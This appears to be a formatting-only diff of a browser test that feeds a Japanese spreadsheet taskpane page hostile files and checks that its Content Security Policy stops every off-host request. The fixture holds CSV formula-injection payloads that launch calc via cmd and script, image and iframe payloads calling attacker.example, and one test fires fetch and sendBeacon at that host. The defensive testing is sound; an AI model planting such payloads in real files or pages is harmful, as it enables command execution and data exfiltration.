@@ -21,7 +21,7 @@ const HOSTILE_CSV = Buffer.from(
     `(イ),経済産業省,"=cmd|' /C calc'!A0 ${MARKER}","@SUM(1+1)*cmd|' /C calc'!A0 ${MARKER}","<img src=http://attacker.example/${MARKER}.png>"`,
     `(ウ),"<script>fetch('http://attacker.example/${MARKER}')</script>",警察庁において${MARKER}を行う。,"<iframe src=""http://attacker.example""></iframe>",・引き続き、${MARKER}を行う。`,
   ].join("\r\n") + "\r\n",
-  "utf8",
+  "utf8"
 );
 
 describe("no request leaves the page's own host", () => {
@@ -37,12 +37,16 @@ describe("no request leaves the page's own host", () => {
   beforeAll(async () => {
     server = await serve();
     browser = await launch();
-    context = await browser.newContext({ viewport: { width: 420, height: 900 }, acceptDownloads: true, locale: "ja-JP" });
+    context = await browser.newContext({
+      viewport: { width: 420, height: 900 },
+      acceptDownloads: true,
+      locale: "ja-JP",
+    });
     // Belt and braces: whatever the page asks for off the host is recorded, then aborted here, so a
     // failing run never reaches the network either.
     await context.route(
       (url) => !url.href.startsWith(server.origin + "/"),
-      (route) => route.abort(),
+      (route) => route.abort()
     );
     page = await context.newPage();
     offHost = watchNetwork(page, server.origin);
@@ -55,7 +59,8 @@ describe("no request leaves the page's own host", () => {
 
   afterAll(async () => {
     tried.offHost = offHost.length;
-    if (offHost.length > 0) console.log(`off-host requests: ${offHost.join(" ")}; failed: ${failed.join(" ")}`);
+    if (offHost.length > 0)
+      console.log(`off-host requests: ${offHost.join(" ")}; failed: ${failed.join(" ")}`);
     console.log(`hardening/network: ${JSON.stringify(tried)}`);
     await browser?.close();
     await server?.close();
@@ -64,7 +69,12 @@ describe("no request leaves the page's own host", () => {
   test("the shipped page carries a CSP that allows only its own origin", () => {
     const html = fs.readFileSync(path.join(PREVIEW_DIR, "taskpane.html"), "utf8");
     const csp = /http-equiv="?Content-Security-Policy"?\s+content="([^"]+)"/u.exec(html)?.[1] ?? "";
-    const directives = new Map(csp.split(";").map((d) => d.trim().split(/\s+/u)).map(([k, ...v]) => [k, v]));
+    const directives = new Map(
+      csp
+        .split(";")
+        .map((d) => d.trim().split(/\s+/u))
+        .map(([k, ...v]) => [k, v])
+    );
     expect(directives.get("default-src")).toEqual(["'self'"]);
     expect(directives.get("connect-src")).toEqual(["'self'"]);
     expect(directives.get("object-src")).toEqual(["'none'"]);
@@ -78,11 +88,18 @@ describe("no request leaves the page's own host", () => {
     const files = fs
       .readdirSync(bad)
       .filter((f) => !f.endsWith(".expected.json"))
-      .map((f) => ({ name: f, mimeType: "application/octet-stream", buffer: fs.readFileSync(path.join(bad, f)) }));
+      .map((f) => ({
+        name: f,
+        mimeType: "application/octet-stream",
+        buffer: fs.readFileSync(path.join(bad, f)),
+      }));
     files.push({ name: "hostile.csv", mimeType: "text/csv", buffer: HOSTILE_CSV });
     tried.files += files.length;
     await page.getByTestId("file-input").setInputFiles(files);
-    await page.getByRole("list", { name: "取り込んだデータ" }).getByText("hostile.csv").waitFor({ timeout: 120000 });
+    await page
+      .getByRole("list", { name: "取り込んだデータ" })
+      .getByText("hostile.csv")
+      .waitFor({ timeout: 120000 });
     await page.getByRole("button", { name: "次へ: 検証" }).click();
     await page.getByTestId("problems-error").waitFor({ timeout: 60000 });
     expect(offHost).toEqual([]);
@@ -100,12 +117,18 @@ describe("no request leaves the page's own host", () => {
     const files = [...ok, { name: "hostile.csv", mimeType: "text/csv", buffer: HOSTILE_CSV }];
     tried.files += files.length;
     await page.getByTestId("file-input").setInputFiles(files);
-    await page.getByRole("list", { name: "取り込んだデータ" }).getByText("hostile.csv").waitFor({ timeout: 120000 });
+    await page
+      .getByRole("list", { name: "取り込んだデータ" })
+      .getByText("hostile.csv")
+      .waitFor({ timeout: 120000 });
     await page.getByRole("button", { name: "次へ: 検証" }).click();
     await page.getByRole("button", { name: "次へ: 集計" }).click();
     await page.getByRole("button", { name: "集計シートを作成" }).click();
     await page.getByTestId("generate-summary").waitFor({ timeout: 120000 });
-    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "ブックをダウンロード (.xlsx)" }).click()]);
+    const [download] = await Promise.all([
+      page.waitForEvent("download"),
+      page.getByRole("button", { name: "ブックをダウンロード (.xlsx)" }).click(),
+    ]);
     expect(fs.statSync((await download.path())!).size).toBeGreaterThan(1000);
     expect(offHost).toEqual([]);
   });
@@ -118,10 +141,12 @@ describe("no request leaves the page's own host", () => {
     const before = offHost.length;
     const outcome = await page.evaluate(async () => {
       const violations: string[] = [];
-      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
+      document.addEventListener("securitypolicyviolation", (e) =>
+        violations.push(e.violatedDirective)
+      );
       const fetched = await fetch("http://attacker.example/x").then(
         () => "sent",
-        () => "refused",
+        () => "refused"
       );
       navigator.sendBeacon("http://attacker.example/b", "x");
       const img = new Image();
@@ -130,7 +155,12 @@ describe("no request leaves the page's own host", () => {
       return { fetched, violations };
     });
     expect(outcome.fetched).toBe("refused");
-    expect(outcome.violations).toEqual(expect.arrayContaining([expect.stringMatching(/connect-src/u), expect.stringMatching(/img-src/u)]));
+    expect(outcome.violations).toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(/connect-src/u),
+        expect.stringMatching(/img-src/u),
+      ])
+    );
     // Chromium announces an image request before its CSP check: every such attempt must have been
     // stopped by the CSP itself (not by this test's route), so it never left the page.
     const attempts = offHost.splice(before);
